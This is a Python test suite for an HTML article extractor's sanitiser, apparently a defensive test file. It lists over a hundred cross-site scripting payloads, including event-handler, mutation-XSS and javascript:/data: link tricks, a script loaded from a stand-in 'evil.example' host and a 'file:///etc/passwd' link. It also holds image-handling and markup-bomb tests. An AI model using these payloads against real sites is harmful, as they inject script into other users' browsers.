"""Nothing that a browser would run is left, whatever the markup."""

from __future__ import annotations

import re
from html import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from scrapy_forest.model.article import extract
from scrapy_forest.model.page import Page
from scrapy_forest.model.wrapper import Wrapper

URL = "https://example.com/a"
HARMLESS_ATTRIBUTES = {"href", "src", "alt", "title", "datetime", "lang", "dir", "colspan", "rowspan"}
DANGEROUS_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "select", "textarea",
    "meta", "link", "base", "template", "noscript", "frame", "frameset", "applet", "audio", "video", "marquee", "xmp",
    "title", "plaintext", "noembed", "noframes", "isindex", "portal", "source", "picture", "canvas", "dialog",
}  # fmt: skip

BAD_LINKS = (
    *(
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\tjavascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "javascript://a.example/%0aalert(1)", "vbscript:a", "livescript:a", "mocha:a"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "blob:https://a.example/1",
        "about:x",
    ),
    *(
        "file:///etc/passwd",
        "ftp://a.example/",
        "view-source:https://a.example/",
        "jar:https://a.example!/",
        "intent://a#Intent",
    ),
    *(
        "mailto:a@a.example",
        "tel:1",
        "ws://a.example/",
        "chrome://settings",
        "ms-word:ofe|u|https://a.example/",
        "feed:javascript:1",
    ),
    *(
        "https:",
        "https://",
        "http:///a",
        "https:javascript:alert(1)",
        "https&#58;//a",
        "htt\0p://a",
        "http\\://a",
        "h\u0442tp://a",
    ),
)
TAGS = "p div a img b i table td ul li h2 blockquote pre code em".split()
HANDLERS = (
    "onload onerror onfocus onmouseover onanimationstart ontransitionend onpointerenter onscroll onwheel oncopy onbegin"
    " onresize ontoggle onbeforeinput onformdata"
).split()

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=x:x srcset='javascript:alert(1) 2x, data:text/html,x 3x'>",
    "<img data-src=javascript:alert(1) src=data:image/svg+xml,x>",
    "<img alt='`><script>alert(1)</script>' title='\"><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=' JaVaScRiPt:alert(1)'>a</a>",
    "<a href='java&#x09;script:alert(1)'>a</a>",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<a href='view-source:https://example.com'>a</a>",
    "<a href='https:javascript:alert(1)'>a</a>",
    "<a href='\\\\evil.example\\x' target=_blank ping=//evil.example>a</a>",
    "<p style='background:url(javascript:alert(1))' class=x id=y>a</p>",
    "<p onmouseover=alert(1) onclick='alert(1)' onfocus=alert(1) tabindex=1 autofocus>a</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>a</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><param name=x></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)><button>b</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//><a href=x>a</a>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>a</table>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<b <script>alert(1)</script>>a</b>",
    "<x{y} onclick=alert(1)><a:b onclick=alert(1)>a</a:b></x{y}>",
    "<p {}=1 onclick=alert(1)>a</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;' lang='\"><script>alert(1)</script>'>a</p>",
    "<time datetime='\" onclick=alert(1) x=\"'>a</time>",
    "<blockquote cite=javascript:alert(1)><q cite=javascript:alert(1)>a</q></blockquote>",
    # how links hide what they are
    *(
        "<a href='{0}'>a</a><img src='{0}'><img srcset='{0} 2x'><video src='{0}'></video>".format(escape(link))
        for link in (*BAD_LINKS, *(f" \x01{link}" for link in BAD_LINKS[:5]))
    ),
    # handlers that run by themselves, in all positions
    *(f"<{tag} {handler}=alert(1) autofocus>a</{tag}>" for tag, handler in zip(TAGS, HANDLERS, strict=True)),
    *(f"<{tag}\x0c{handler}\n=\talert(1)/{handler}=x a>a</{tag}>" for tag, handler in zip(TAGS, HANDLERS, strict=True)),
    # markup that reads differently the second time
    "<p id='</p><script>alert(1)</script>'>a",
    "<table><a href='1'><style><img src=x onerror=alert(1)></style></a><tr><td><math><mi><script>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a title='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<select><template><script>alert(1)</script></template></select>",
    "<p>&lt;img src=x onerror=alert(1)&gt;<b>&lt;/b&gt;&lt;script&gt;</b></p>",
    "<p>\u2028<script>alert(1)</script>\ufeff<\u212acript>alert(1)</\u212acript>",
    "<ſcript>alert(1)</ſcript><img ſrc=x onerror=alert(1)>",
)


def html_of(markup: str) -> str:
    article = extract(Wrapper("//main", "test"), Page.from_html(URL, f"<body><main>Text{markup}</main></body>"))
    return article.html if article else ""


def check(html: str) -> None:
    for node in lxml_html.fragment_fromstring(html, create_parent="div").iter():
        assert isinstance(node.tag, str), "a comment"
        assert node.tag not in DANGEROUS_TAGS
        assert set(node.keys()) <= HARMLESS_ATTRIBUTES
        for name in {"href", "src"}.intersection(node.keys()):
            assert re.match(r"https?://[\w.-]+", node.get(name))


def test_x09_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_x09_payload(payload: str) -> None:
    html = html_of(payload)
    assert "Text" in html
    check(html)


def test_all_payloads_in_one() -> None:
    check(html_of("".join(payload for payload in PAYLOADS if "plaintext" not in payload)))


@given(st.lists(st.sampled_from(PAYLOADS) | st.sampled_from(["<", ">", "'", '"', "--", "</", "<p ", "<b>", "<table>"])))
@settings(max_examples=150, deadline=None)
def test_any_mix(pieces: list[str]) -> None:
    check(html_of("".join(pieces)))


IMAGES = {
    "plain": ("<img src=a.png>", ("https://example.com/a.png",)),
    "largest-of-set": ("<img src=a.png srcset='b.png 300w, c.png 900w'>", ("https://example.com/c.png",)),
    "late": ("<img src=data:image/gif,x data-src=a.png>", ("https://example.com/a.png",)),
    "wordpress": ("<img src=blank.gif data-lazy-src=a.png>", ("https://example.com/a.png",)),
    "late-set": ("<img src=b.gif data-srcset='a.png 2x'>", ("https://example.com/a.png",)),
    "broken-set": ("<img src=a.png srcset=', ,'>", ("https://example.com/a.png",)),
    "pixel": ("<img src=a.png width=1 height=1><img src=b.png width=0>", ()),
    "data": ("<img src=data:image/png,x>", ()),
    "no-host": ("<img src='https:///a'><img src='http://[a'>", ()),
    "empty": ("<img><img src=''><img src=' '>", ()),
    "twice": ("<img src=a.png><img src=/a.png>", ("https://example.com/a.png",)),
    "not-shown": ("<noscript><img src=a.png></noscript>", ()),
}


@pytest.mark.parametrize(("markup", "links"), IMAGES.values(), ids=IMAGES)
def test_images(markup: str, links: tuple[str, ...]) -> None:
    page = Page.from_html(URL, f"<body><main>Text{markup}</main></body>")
    article = extract(Wrapper("//main", "test"), page)
    assert article is not None
    assert article.images == links


@pytest.mark.usefixtures("soon")
@pytest.mark.parametrize(
    "markup",
    [
        "<p>" + "".join(f"<b title={number}>" for number in range(1_000)) + "<div>a</div>" * 20_000,
        "<p>" + "".join(f"<a href=/{number}>" for number in range(1_000)) + "<div>a</div>" * 20_000,
        "<img src=a>" * 20_000,
        "<a href=b>b</a>" * 20_000,
        "<br>" * 140_000,
        f"<img srcset='{', ' * 100_000}'>",
        f"<img srcset='{',' * 100_000}a'>",
    ],
    ids=["formatting", "links-in-links", "images", "links", "breaks", "set-of-spaces", "set-of-commas"],
)
def test_bombs(markup: str) -> None:
    assert len(html_of(markup)) < 5_000_000
